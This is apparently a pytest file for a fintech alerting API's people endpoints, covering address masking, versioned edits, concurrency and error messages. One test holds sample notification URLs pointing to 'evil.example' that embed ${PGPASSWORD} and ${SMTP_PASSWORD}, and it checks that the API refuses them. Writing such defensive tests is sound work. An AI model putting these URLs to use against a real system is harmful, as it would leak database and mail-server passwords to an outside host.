"""People over HTTP: what is shown to whom, and what may be changed."""

import threading

import sqlalchemy as sa

from fintech_pipeline.alerts.people_store import PeopleStore
from fintech_pipeline.alerts.tables import contacts
from fintech_pipeline.api.callers import Role
from fintech_pipeline.storage.database import Database
from tests.api.alerting import FILE, NEW, NUMBER, Asking, announced, apply, asking, problem
from tests.api.living import NOW

ANNA = FILE["people"]["anna"]


def tag(api: Asking, person: str = "anna") -> dict[str, str]:
    return {"If-Match": api.get(f"/people/{person}").headers["etag"]}


def disabled(database: Database, channel: str, why: str) -> None:
    with database.transaction() as connection:
        connection.execute(
            sa.update(contacts)
            .where(contacts.c.person == "anna", contacts.c.channel == channel)
            .values(disabled_at=NOW, disabled_because=why)
        )


def test_a_viewer_sees_that_there_are_addresses_and_an_editor_which(database: Database) -> None:
    apply(database)
    disabled(database, "email", "anna@example.com is nobody's.")
    with asking(database, Role.VIEWER) as api:
        seen = api.get("/people")
        one = api.get("/people/anna")
    with asking(database) as api:
        whole = api.get("/people")
    anna = seen.document[0]
    assert anna == one.document
    assert [(way["channel"], way["address"]) for way in anna["contacts"]] == [
        ("email", "a…@example.com"),
        ("sms", "+49…78"),
        ("apprise", "ntfy://…"),
    ]
    assert anna["contacts"][0]["disabled_because"] == "a…@example.com is nobody's."
    assert anna["definition"]["sms"] == "+49…78"
    for secret in ("anna@example.com", NUMBER, "hunter2"):
        assert secret not in seen.body.decode()
    assert whole.document[0]["definition"] == {**ANNA, "apprise": "ntfy://…"}
    assert "hunter2" not in whole.body.decode()


def test_a_person_is_made_changed_and_removed(database: Database) -> None:
    apply(database)
    with asking(database) as api:
        made = api.put("/people/carl", {"email": "carl@example.com"})
        assert (made.status, made.headers["location"]) == (201, "/api/v1/people/carl")
        changed = api.put(
            "/people/carl",
            {"email": ["carl@example.com", "c@example.com"], "sms_per_day": None},
            {"If-Match": made.headers["etag"]},
        )
        assert changed.status == 200
        assert [one["address"] for one in changed.document["contacts"]] == [
            "carl@example.com",
            "c@example.com",
        ]
        assert api.delete("/people/carl", tag(api, "carl")).status == 204
        assert api.get("/people/carl").status == 404
        assert api.delete("/people/carl", {"If-Match": "*"}).status == 404
        again = api.put("/people/carl", {"console": True})
    assert (again.status, again.document["version"]) == (201, 4)
    told = [one for one in announced(database, "people") if one["names"] == ["carl"]]
    assert len(told) == 4, "made, changed, removed and made again"


def test_what_was_shown_masked_stays_what_it_is(database: Database) -> None:
    apply(database)
    with asking(database) as api:
        shown = api.get("/people/anna").document["definition"]
        answer = api.put("/people/anna", {**shown, "sms_per_day": 3}, tag(api))
        assert answer.status == 200
        two = api.put("/people/anna", {**shown, "apprise": ["ntfy://…", "ntfy://…"]}, tag(api))
        other = api.put("/people/ben", {"apprise": "ntfy://…"}, tag(api, "ben"))
        added = api.put("/people/anna", {**shown, "apprise": ["ntfy://…", "tgram://b/c"]}, tag(api))
    assert (two.status, other.status, added.status) == (422, 422, 200)
    assert "ntfy://… stands 2 times and 1 such addresses are stored" in two.detail
    [anna] = [one for one in PeopleStore(database).people() if one.name == "anna"]
    assert [one.address for one in anna.contacts if one.channel == "apprise"] == [
        ANNA["apprise"],
        "tgram://b/c",
    ]


def test_an_editor_cannot_have_the_deliverers_environment_sent_anywhere(
    database: Database,
) -> None:
    """It holds the passwords of the database and of the mail server."""
    apply(database)
    with asking(database) as api:
        for address in (
            "json://evil.example/${PGPASSWORD}",
            "json://evil.example/a?x=${SMTP_PASSWORD}",
            "${DATABASE_URL}",
        ):
            shown = api.get("/people/anna").document["definition"]
            refused = api.put("/people/anna", {**shown, "apprise": address}, tag(api))
            assert refused.status == 422
            assert "as only whoever sets variables may say where they are sent" in refused.detail
            assert "evil.example" not in refused.detail
            assert api.put("/people/eve", {"apprise": ["json://a/b", address]}).status == 422
        assert api.get("/people/eve").status == 404
    [anna] = [one for one in PeopleStore(database).people() if one.name == "anna"]
    assert ANNA["apprise"] in [one.address for one in anna.contacts]


def test_a_variable_that_a_file_brought_in_stays_when_something_else_is_changed(
    database: Database,
) -> None:
    file = {**FILE, "people": {**FILE["people"], "anna": {**ANNA, "apprise": "${ANNA_NTFY_URL}"}}}
    apply(database, file)
    with asking(database) as api:
        shown = api.get("/people/anna").document["definition"]
        assert shown["apprise"] == "${ANNA_NTFY_URL}"
        assert api.put("/people/anna", {**shown, "sms_per_day": 3}, tag(api)).status == 200
        other = api.put("/people/anna", {**shown, "apprise": "${OTHER_URL}"}, tag(api))
    assert other.status == 422
    [anna] = [one for one in PeopleStore(database).people() if one.name == "anna"]
    assert "${ANNA_NTFY_URL}" in [one.address for one in anna.contacts]


def test_a_person_that_rules_tell_is_not_taken_from_them(database: Database) -> None:
    apply(database)
    with asking(database) as api:
        gone = api.delete("/people/anna", tag(api))
        without = api.put("/people/anna", {"sms": NUMBER}, tag(api))
        assert api.get("/people/anna").document["version"] == 1
    assert gone.status == 409
    assert gone.detail == "anna is told by core, good; take them out of notify there first."
    assert without.status == 422
    assert without.detail == (
        "Rule core: notify names anna by email, but anna has only sms; write email = … under"
        " [people.anna]."
    )


def test_every_mistake_is_told_and_no_secret_in_it(database: Database) -> None:
    wrong = {
        "time_zone": "Berlin",
        "quiet_hours": "22:00-22:00",
        "email": "anna\ud800@",
        "sms": "0151",
        "apprise": "hunter2 is it",
        "sms_per_day": 10**30,
    }
    with asking(database) as api:
        told = problem(api.put("/people/anna", wrong))
        empty = api.put("/people/anna", {})
        no_object = api.put("/people/anna", ["email"])
        long = api.put(f"/people/{'a' * 300}", {"console": True})
    assert len(told["errors"]) == 6
    assert "hunter2" not in told["detail"]
    assert empty.detail.startswith("Person anna: there is no way to reach them;")
    assert (no_object.status, long.status) == (422, 422)


def test_of_two_editors_at_once_one_wins(database: Database) -> None:
    apply(database)
    statuses: list[int] = []
    with asking(database) as api:
        known = tag(api)

        def edit(count: int) -> None:
            statuses.append(api.put("/people/anna", {**ANNA, "sms_per_day": count}, known).status)

        editors = [threading.Thread(target=edit, args=(one,)) for one in (1, 2, 3)]
        for editor in editors:
            editor.start()
        for editor in editors:
            editor.join()
        made = [api.put("/people/anna", ANNA, one).status for one in (NEW, {})]
    assert sorted(statuses) == [200, 412, 412]
    assert made == [412, 428]


def test_a_contact_that_is_disabled_is_enabled_again(database: Database) -> None:
    apply(database)
    disabled(database, "sms", "The number opted out.")
    with asking(database) as api:
        rule = api.get("/rules/good").document
        done = api.post("/people/anna/contacts/sms/enable")
        again = api.post("/people/anna/contacts/sms/enable")
        nobody = api.post("/people/nobody/contacts/sms/enable")
        odd = api.post("/people/anna/contacts/pigeon/enable")
    assert "anna gets nothing by sms: that contact is disabled;" in rule["warnings"][0]
    [contact] = done.document
    assert (contact["address"], contact["disabled_because"]) == (NUMBER, None)
    assert [one.status for one in (again, nobody, odd)] == [409, 404, 422]
    assert again.detail == "No contact of anna by sms is disabled."
    assert announced(database, "people")[-1] == {"names": ["anna"], "count": 1}
